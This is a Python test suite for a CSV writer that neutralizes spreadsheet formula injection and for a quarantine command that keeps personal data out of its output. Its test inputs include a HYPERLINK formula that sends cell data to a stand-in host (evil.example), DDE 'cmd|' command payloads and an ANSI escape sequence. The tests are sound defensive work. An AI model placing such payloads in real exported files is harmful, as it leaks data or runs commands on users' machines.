"""crmshield.csvout: CSV files for people, neutralized against spreadsheet formula injection."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
from decimal import Decimal
from pathlib import Path

import duckdb
import numpy as np
import pandas as pd
import pytest
from click.testing import Result
from typer.testing import CliRunner

from crmshield.cli import app
from crmshield.config import Settings
from crmshield.csvout import neutralize, write_csv, write_frame
from crmshield.generate import FILES, generate
from crmshield.ingest import ingest
from crmshield.validate import load_expectations_module
from crmshield.validate_raw import _write_facts


def read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1 415 555 0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",  # some spreadsheets trim before looking for a formula
    "＝1+1",  # full-width equals
]


@pytest.mark.parametrize("value", HOSTILE)
def test_each_formula_prefix_is_neutralized_in_the_written_file(tmp_path: Path, value: str) -> None:
    path = tmp_path / "out.csv"
    write_csv(path, ["label", "n"], [[value, 1]])
    assert read(path) == [["label", "n"], ["'" + value, "1"]]  # the value itself kept, only prefixed


@pytest.mark.parametrize("value", ["plain", "", "a=b", "1-2", "x@example.com", "'=already", "18-24", "65+", "*"])
def test_harmless_text_is_left_alone(value: str) -> None:
    assert neutralize(value) == value


def test_numbers_are_not_text_and_stay_bare(tmp_path: Path) -> None:
    values = [-3, -2.5, Decimal("-10.25"), 0, 1e-7, np.int64(-4), np.float64(-0.5), True]
    assert [neutralize(v) for v in values] == [-3, -2.5, Decimal("-10.25"), 0, 1e-7, -4, -0.5, True]
    path = tmp_path / "n.csv"
    write_csv(path, ["a", "b", "c", "d", "e", "f", "g", "h"], [values])
    raw = path.read_text(encoding="utf-8").splitlines()[1]
    assert raw == "-3,-2.5,-10.25,0,1e-07,-4,-0.5,True"  # bare: a spreadsheet reads numbers
    assert read(path)[1] == ["-3", "-2.5", "-10.25", "0", "1e-07", "-4", "-0.5", "True"]


def test_missing_values_are_empty_cells() -> None:
    for value in (None, float("nan"), np.nan, pd.NA, pd.NaT, Decimal("NaN")):
        assert neutralize(value) == "", value


def test_other_values_are_their_text_neutralized() -> None:
    class Hostile:
        def __str__(self) -> str:
            return "=evil()"

    assert neutralize(pd.Timestamp("2024-01-02")) == "2024-01-02 00:00:00"
    assert neutralize(Hostile()) == "'=evil()"


def test_quotes_newlines_and_delimiters_round_trip(tmp_path: Path) -> None:
    rows = [
        ['say "hi", then leave', "line one\nline two", "semi;colon", "tab\tinside", "crlf\r\nend"],
        ["é ünïcødé 日本", '"', ",", "", "=x\n=y"],
    ]
    path = tmp_path / "rt.csv"
    assert write_csv(path, ["a", "b", "c", "d", "e"], rows) == 2
    back = read(path)
    assert back[1] == rows[0]
    assert back[2] == ["é ünïcødé 日本", '"', ",", "", "'=x\n=y"]
    text = path.read_text(encoding="utf-8")
    assert '"semi;colon"' in text  # text cells are quoted: a ';'-splitting spreadsheet keeps them whole


def test_header_is_neutralized_too(tmp_path: Path) -> None:
    path = tmp_path / "h.csv"
    write_csv(path, ["=1+1", "@x", 3], [["a", "b", "c"]])
    assert read(path)[0] == ["'=1+1", "'@x", "3"]


def test_write_frame_neutralizes_labels_and_keeps_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "country": ["=cmd|' /C calc'!A0", "DE", None],
            "n": pd.array([-5, 10, None], dtype="Int64"),
            "avg": [1.5, -0.25, np.nan],
        }
    )
    path = tmp_path / "f.csv"
    assert write_frame(path, frame) == 3
    assert read(path) == [
        ["country", "n", "avg"],
        ["'=cmd|' /C calc'!A0", "-5", "1.5"],
        ["DE", "10", "-0.25"],
        ["", "", ""],
    ]
    back = pd.read_csv(path)
    assert back["n"].tolist()[:2] == [-5, 10] and back["avg"].tolist()[:2] == [1.5, -0.25]


def test_atomic_replace_keeps_the_old_file_on_failure(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    write_csv(path, ["x"], [["old"]])
    with pytest.raises(ValueError, match="row 2 has 2 cells"):
        write_csv(path, ["x"], [["new"], ["too", "many"]])
    assert read(path) == [["x"], ["old"]]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv"]  # no temporary file left


def test_mode(tmp_path: Path) -> None:
    private = tmp_path / "p.csv"
    old = os.umask(0)
    try:
        write_csv(private, ["x"], [["pii"]], mode=0o600)
        public = tmp_path / "q.csv"
        write_csv(public, ["x"], [["ok"]])
    finally:
        os.umask(old)
    assert stat.S_IMODE(private.stat().st_mode) == 0o600
    assert stat.S_IMODE(public.stat().st_mode) == 0o666  # default: 0o666 minus the umask


def test_reconciliation_facts_read_back_by_gx_exactly_as_before(tmp_path: Path) -> None:
    """The GX facts CSV now goes through csvout: pandas (GX's pandas datasource) reads the same
    counts and types as from the old ``to_csv``; only a hostile entity name differs (prefixed), and
    it fails ``known_entity`` either way."""
    module = load_expectations_module(Settings.from_env(), "raw")
    ingest = {
        "files": {
            "contacts": {"read": 10, "loaded": 7, "quarantined": 1, "duplicates": 1, "expired": 1, "erased": 0},
            "deals": {"read": 5, "loaded": "x", "quarantined": -1, "duplicates": 0, "expired": 0, "erased": 0},
            "=evil": {"read": 3, "loaded": 3, "quarantined": 0, "duplicates": 0, "expired": 0, "erased": 0},
        }
    }
    facts = module.reconciliation_facts(ingest)
    facts.to_csv(tmp_path / "old.csv", index=False)
    _write_facts(module, ingest, tmp_path / "gx" / "new.csv")
    old, new = pd.read_csv(tmp_path / "old.csv"), pd.read_csv(tmp_path / "gx" / "new.csv")
    assert new.dtypes.equals(old.dtypes)
    assert new.drop(columns="entity").equals(old.drop(columns="entity"))
    assert new["entity"].tolist() == ["contacts", "companies", "deals", "tickets", "'=evil"]
    assert old["entity"].tolist()[:4] == new["entity"].tolist()[:4]


# --------------------------------------------------------------------------
# crmshield quarantine: a real ingest of a small generated landing zone
# --------------------------------------------------------------------------

HOSTILE_NAME = '=HYPERLINK("https://evil.example/?"&A1,"click")'
HOSTILE_PHONE = "+1 415 555 0100"
ESC_NAME = "Evil\x1b[31mRed"


@pytest.fixture(scope="module")
def quarantined(tmp_path_factory: pytest.TempPathFactory) -> tuple[Settings, dict, int]:
    """200 generated contacts (with the generator's dirty rows) plus one contact carrying a formula
    name, a +phone, an ANSI escape and an invalid date of birth; ingested once for the module.
    Returns the settings, the ingest result per entity, and the hostile row's line number."""
    data = tmp_path_factory.mktemp("quarantine") / "data"
    generate(data / "landing", contacts=200, seed=3)
    path = data / "landing" / FILES["contacts"]
    lines = path.read_bytes().decode("utf-8").split("\r\n")
    parsed = [(i, next(csv.reader([line]))) for i, line in enumerate(lines) if i and line]
    i, fields = next((i, f) for i, f in parsed if len(f) == 16 and re.fullmatch(r"(19|20)\d\d-\d\d-\d\d", f[5]))
    fields[1], fields[2], fields[4], fields[5] = HOSTILE_NAME, ESC_NAME, HOSTILE_PHONE, "31/31/1999"
    buf = io.StringIO()
    csv.writer(buf, lineterminator="").writerow(fields)
    lines[i] = buf.getvalue()
    path.write_bytes("\r\n".join(lines).encode("utf-8"))
    settings = Settings.from_env(data)
    result = ingest(settings)
    return settings, {e: f for e, f in result.files.items()}, i + 1


def _pii_values(settings: Settings) -> list[str]:
    """Distinctive personal values held in the quarantine (names, emails, phones, streets, raw lines)."""
    values = [HOSTILE_NAME, HOSTILE_PHONE, "evil.example", "Evil"]
    for f in sorted(settings.quarantine.glob("*.parquet")):
        for (record,) in duckdb.sql(f"SELECT CAST(record AS VARCHAR) FROM '{f}'").fetchall():
            rec = json.loads(record)
            if isinstance(rec, str):
                values.append(rec.strip()[:30])
                continue
            for key in ("last_name", "email", "phone", "street", "subject", "description", "name", "domain"):
                if rec.get(key) and len(rec[key]) >= 5:
                    values.append(rec[key][:30])
    return values


def _cli(settings: Settings, *args: str) -> Result:
    return CliRunner(env={"COLUMNS": "300"}).invoke(app, ["quarantine", "--data-dir", str(settings.data_dir), *args])


def test_quarantine_counts_match_the_ingest_and_show_no_value(quarantined) -> None:
    settings, files, _ = quarantined
    res = _cli(settings, "--json")
    assert res.exit_code == 0, res.output
    doc = json.loads(res.stdout)
    assert set(doc["entities"]) == set(files)
    for entity, f in files.items():
        got = doc["entities"][entity]
        assert got["quarantined"] == f.quarantined and got["reasons"] == f.quarantine_reasons, entity
        assert got["rows"] == []  # counts only by default
    assert files["contacts"].quarantine_reasons["date_of_birth:invalid_date"] >= 2  # the generator's + ours

    human = _cli(settings)
    listed = _cli(settings, "--rows", "--limit", "0")
    as_json = _cli(settings, "--rows", "--json")
    for out in (human, listed, as_json):
        assert out.exit_code == 0, out.output
        for value in _pii_values(settings):
            assert value not in out.output, value
    assert "invalid_date" in human.stdout and f"{sum(f.quarantined for f in files.values()):,} quarantined" in (
        human.stdout
    )
    rows = json.loads(as_json.stdout)["entities"]["contacts"]["rows"]
    assert len(rows) == files["contacts"].quarantined and all("record" not in r for r in rows)


def test_quarantine_rows_name_file_line_field_and_reason(quarantined) -> None:
    import json

    settings, _, line = quarantined
    doc = json.loads(_cli(settings, "--entity", "contacts", "--rows", "--json").stdout)
    assert list(doc["entities"]) == ["contacts"]
    (row,) = [r for r in doc["entities"]["contacts"]["rows"] if r["line"] == line]
    assert row == {
        "file": "hubspot_contacts.csv",
        "line": line,
        "field": "date_of_birth",
        "reason": "invalid_date",
        "errors": ["date_of_birth:invalid_date"],
    }


def test_show_values_prints_them_escaped(quarantined) -> None:
    settings, _, _ = quarantined
    res = _cli(settings, "--entity", "contacts", "--show-values")
    assert res.exit_code == 0, res.output
    assert "evil.example" in res.stdout and HOSTILE_PHONE in res.stdout
    assert "\x1b" not in res.stdout  # terminal escapes from the data are never sent to the terminal
    assert "personal data" in res.stderr


def test_quarantine_csv_is_owner_only_neutralized_and_value_free_by_default(quarantined, tmp_path: Path) -> None:
    settings, files, line = quarantined
    path = tmp_path / "q.csv"
    res = _cli(settings, "--csv", str(path))
    assert res.exit_code == 0, res.output
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    header, *rows = read(path)
    assert header == ["entity", "file", "line", "field", "reason", "errors"]
    assert len(rows) == sum(f.quarantined for f in files.values())
    assert ["contacts", "hubspot_contacts.csv", str(line), "date_of_birth", "invalid_date"] in [r[:5] for r in rows]
    text = path.read_text(encoding="utf-8")
    for value in _pii_values(settings):
        assert value not in text, value

    with_values = tmp_path / "v.csv"
    res = _cli(settings, "--entity", "contacts", "--show-values", "--csv", str(with_values))
    assert res.exit_code == 0, res.output
    assert HOSTILE_PHONE not in res.stdout  # --csv: the values go to the file, not the screen
    assert stat.S_IMODE(with_values.stat().st_mode) == 0o600
    header, *rows = read(with_values)
    assert header[:6] == ["entity", "file", "line", "field", "reason", "errors"] and header[-1] == "raw_line"
    assert {"first_name", "phone", "date_of_birth"} <= set(header)
    (hostile,) = [dict(zip(header, r, strict=True)) for r in rows if r[2] == str(line)]
    assert hostile["first_name"] == "'" + HOSTILE_NAME
    assert hostile["phone"] == "'" + HOSTILE_PHONE
    assert hostile["last_name"] == ESC_NAME and hostile["date_of_birth"] == "31/31/1999"
    for r in rows:  # no cell a spreadsheet would run
        for cell in r:
            assert not cell.lstrip() or cell.lstrip()[0] not in "=+-@", cell


def test_quarantine_usage_errors(quarantined, tmp_path: Path) -> None:
    settings, _, _ = quarantined
    assert _cli(settings, "--entity", "nope").exit_code == 2
    assert _cli(settings, "--csv", str(tmp_path / "missing" / "q.csv")).exit_code == 2
    empty = Settings.from_env(tmp_path / "empty")
    res = _cli(empty)
    assert res.exit_code == 1 and "crmshield ingest" in res.stderr
